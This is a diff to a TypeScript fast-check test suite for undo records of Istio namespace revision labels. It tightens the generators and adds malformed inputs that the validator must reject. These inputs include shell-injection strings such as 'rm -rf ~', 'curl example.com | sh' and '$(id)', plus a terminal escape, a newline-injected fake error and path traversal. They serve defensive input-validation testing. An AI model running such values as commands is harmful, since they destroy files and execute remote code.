@@ -11,10 +11,12 @@ const record: UndoRecord = {
 }; // biome-ignore format: one line of fields
 
 const text = fc.string({ minLength: 1 });
-const label = fc.option(fc.string(), { nil: null });
+const word = fc.stringMatching(/^[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?$/);
+const label = fc.option(fc.oneof(word, fc.constant("")), { nil: null });
+const instant = fc.constantFrom("2026-11-03T04:05:06Z", "2027-01-01T00:00:00Z");
 const records: fc.Arbitrary<UndoRecord> = fc.record({
-  version: fc.constant(1 as const), run: text, target: fc.record({ label: text, revision: text, tag: fc.option(text, { nil: undefined }) }, { noNullPrototype: true }), stamp: text, namespaceUid: text,
-  before: fc.record({ "istio-injection": label, "istio.io/rev": label }, { noNullPrototype: true }), from: fc.record({ revision: text, deploymentUid: fc.option(text, { nil: undefined }) }, { noNullPrototype: true }), state: fc.constantFrom("open" as const, "done" as const),
+  version: fc.constant(1 as const), run: word, target: fc.record({ label: word, revision: word, tag: fc.option(word, { nil: undefined }) }, { noNullPrototype: true }), stamp: instant, namespaceUid: text,
+  before: fc.record({ "istio-injection": label, "istio.io/rev": label }, { noNullPrototype: true }), from: fc.record({ revision: word, deploymentUid: fc.option(text, { nil: undefined }) }, { noNullPrototype: true }), state: fc.constantFrom("open" as const, "done" as const),
 }, { noNullPrototype: true }); // biome-ignore format: a table
 
 test("a record that is written and read again is equal; absent and empty labels differ", () => {
@@ -83,6 +85,15 @@ const damaged: readonly (readonly [change: object, malformed: string])[] = [
   [{ from: { deploymentUid: "u2" } }, "its field from is incomplete"],
   [{ from: { revision: "default", deploymentUid: 1 } }, "its field from is incomplete"],
   [{ from: null }, "its field from is incomplete"],
+  // What no run of ours writes: it would be printed in commands, or sent to the API server.
+  [{ run: "a1; rm -rf ~" }, "its field run, stamp or namespaceUid is missing"],
+  [{ stamp: "yesterday" }, "its field run, stamp or namespaceUid is missing"],
+  [{ target: { ...record.target, label: "1-20; curl example.com | sh" } }, "its field target is incomplete"],
+  [{ target: { ...record.target, revision: "1-20\nerror: no" } }, "its field target is incomplete"],
+  [{ target: { ...record.target, tag: "\u001b[31m" } }, "its field target is incomplete"],
+  [{ before: { ...record.before, "istio-injection": "$(id)" } }, "its field before is incomplete"],
+  [{ before: { ...record.before, "istio.io/rev": "x".repeat(64) } }, "its field before is incomplete"],
+  [{ from: { ...record.from, revision: "../default" } }, "its field from is incomplete"],
 ]; // biome-ignore format: a table
 
 for (const [change, malformed] of damaged) {
